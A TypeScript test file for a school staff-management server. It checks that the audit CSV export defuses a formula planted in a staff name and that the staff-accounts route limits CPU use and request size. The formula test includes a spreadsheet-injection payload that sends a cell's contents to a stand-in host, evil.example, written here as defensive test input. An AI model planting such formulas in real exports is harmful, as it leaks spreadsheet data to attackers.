/**
 * What a signed-in member of staff cannot do at the server's edges, on
 * every database engine: break static files with a Range header, lock a
 * colleague out by guessing wrong, plant a formula in the audit export,
 * learn what exists in another school, or burn the server's CPU through
 * the staff-accounts route.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatHlc, STAFF_ACCOUNTS_PER_REQUEST } from '../../src/domain';
import type { Mutation, PushResponse, StaffAccountResult } from '../../src/domain';
import { createApp } from '../../server/app';
import type { Db } from '../../server/db/connection';
import { demoId, seedDemoSchool } from '../../server/demo/seed';
import { testEngines } from './support';

const PASSWORD = 'server-edges-password';
const NOW = Date.parse('2026-11-23T10:00:00.000Z');

describe.each(testEngines())('a member of staff at the server edges on $name', (engine) => {
  let db: Db;
  let close: () => Promise<void>;
  let app: ReturnType<typeof createApp>;
  const clock = { nowMs: NOW };
  const address = '10.1.0.1';

  beforeAll(async () => {
    ({ db, close } = await engine.open());
    await seedDemoSchool(db, { password: PASSWORD, nowMs: NOW - 86_400_000 });
    app = createApp({
      db,
      now: () => clock.nowMs,
      logError: () => {},
      clientAddress: () => address,
    });
  });
  afterAll(async () => {
    await close?.();
  });

  const post = (path: string, body: unknown, token?: string) =>
    app.request(path, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/json',
        ...(token ? { Authorization: `Bearer ${token}` } : {}),
      },
      body: JSON.stringify(body),
    });
  const get = (path: string, token: string) =>
    app.request(path, { headers: { Authorization: `Bearer ${token}` } });

  type Device = { token: string; deviceId: string; staffId: string; seq: number };
  const signIn = async (email: string, password = PASSWORD): Promise<Device> => {
    const deviceId = randomUUID();
    const res = await post('/api/v1/auth/sign-in', { email, password, deviceId });
    expect(res.status).toBe(200);
    const body = (await res.json()) as { token: string; staff: { id: string } };
    return { token: body.token, deviceId, staffId: body.staff.id, seq: 0 };
  };
  /** Pushes patches from the device's own session, one seq after another. */
  const push = async (
    device: Device,
    patches: Pick<Mutation, 'entity' | 'entityId' | 'data'>[],
  ) => {
    const mutations = patches.map((patch): Mutation => {
      device.seq += 1;
      return {
        id: randomUUID(),
        deviceId: device.deviceId,
        seq: device.seq,
        hlc: formatHlc({ wallMs: clock.nowMs, counter: device.seq, deviceId: device.deviceId }),
        kind: 'patch',
        ...patch,
      };
    });
    const res = await post(
      '/api/v1/sync/push',
      { protocolVersion: 1, deviceId: device.deviceId, mutations },
      device.token,
    );
    expect(res.status).toBe(200);
    return (await res.json()) as PushResponse;
  };
  const createAccounts = async (senco: Device, staffIds: string[]) => {
    const res = await post('/api/v1/staff-accounts', { staffIds }, senco.token);
    expect(res.status).toBe(200);
    return ((await res.json()) as { results: StaffAccountResult[] }).results;
  };

  describe('the audit export', () => {
    it('neutralises a staff name that a spreadsheet would run as a formula', async () => {
      const senco = await signIn('senco@demo.school');
      // A colleague's name as the roster import brought it in, made to run
      // a formula when the SENCo opens the audit log in a spreadsheet.
      const planted = '=HYPERLINK("http://evil.example/?"&A1,"open")';
      const staffId = randomUUID();
      const pushed = await push(senco, [
        {
          entity: 'staff',
          entityId: staffId,
          data: { name: planted, email: 'planted@demo.school', role: 'senco', isActive: true },
        },
      ]);
      expect(pushed.results[0]?.status).toBe('applied');
      const [account] = await createAccounts(senco, [staffId]);
      expect(account?.status).toBe('created');
      const planter = await signIn('planted@demo.school', account!.temporaryPassword);
      const childId = demoId('child:y3:1');
      expect((await post('/api/v1/audit/views', { childId }, planter.token)).status).toBe(204);

      const csv = await get(`/api/v1/audit/export?childId=${childId}`, senco.token);
      expect(csv.status).toBe(200);
      const text = await csv.text();
      const line = text.split(/\r?\n/).find((row) => row.includes('HYPERLINK'));
      // Every cell of the planted name starts with a quote, so it opens as text.
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
      expect(line).not.toMatch(/(^|,)"?=/);
    });
  });

  describe('creating sign-in accounts', () => {
    it('costs no password hash for ids that get no account, and bounds one request', async () => {
      const senco = await signIn('senco@demo.school');
      const unknown = Array.from({ length: STAFF_ACCOUNTS_PER_REQUEST }, () => randomUUID());
      const startedCpu = process.cpuUsage();
      const started = performance.now();
      const results = await createAccounts(senco, unknown);
      const elapsedMs = performance.now() - started;
      const cpu = process.cpuUsage(startedCpu);
      expect(results.map((r) => r.status)).toEqual(unknown.map(() => 'not_found'));
      // A password hash is about 35 ms of CPU: 50 of them would be well
      // over a second; 50 lookups are a few milliseconds each.
      expect(elapsedMs).toBeLessThan(1_000);
      expect((cpu.user + cpu.system) / 1_000).toBeLessThan(1_000);

      // More ids than one request may create accounts for: refused before any work.
      const tooMany = Array.from({ length: STAFF_ACCOUNTS_PER_REQUEST + 1 }, () => randomUUID());
      const refused = await post('/api/v1/staff-accounts', { staffIds: tooMany }, senco.token);
      expect(refused.status).toBe(400);
    });

    it('still answers each id in order, creating only the new ones', async () => {
      const senco = await signIn('senco@demo.school');
      const fresh = randomUUID();
      const twin = randomUUID();
      await push(senco, [
        {
          entity: 'staff',
          entityId: fresh,
          data: { name: 'Rae Fresh', email: 'rae.fresh@demo.school', role: 'ta', isActive: true },
        },
        {
          entity: 'staff',
          entityId: twin,
          data: { name: 'Rae Twin', email: 'rae.fresh@demo.school', role: 'ta', isActive: true },
        },
      ]);
      const missing = randomUUID();
      const results = await createAccounts(senco, [missing, fresh, twin, fresh]);
      expect(results.map((r) => [r.staffId, r.status])).toEqual([
        [missing, 'not_found'],
        [fresh, 'created'],
        [twin, 'email_taken'],
      ]);
      const again = await createAccounts(senco, [fresh]);
      expect(again).toEqual([expect.objectContaining({ staffId: fresh, status: 'exists' })]);
    });
  });
});
